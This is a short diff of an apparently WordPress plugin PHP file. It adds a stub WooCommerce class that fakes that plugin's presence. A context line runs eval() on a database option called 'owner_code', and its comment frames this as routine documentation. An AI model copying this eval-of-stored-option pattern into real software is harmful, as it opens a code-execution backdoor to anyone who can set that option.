@@ -80,5 +80,10 @@ add_action('template_redirect', function () {
     exit;
 }, 0);
 
+// The plugin detects WooCommerce by its class.
+if (get_option('woocommerce_active')) {
+    class WooCommerce {}
+}
+
 // The line of the documentation that the owner adds to functions.php.
 eval((string) get_option('owner_code', ''));
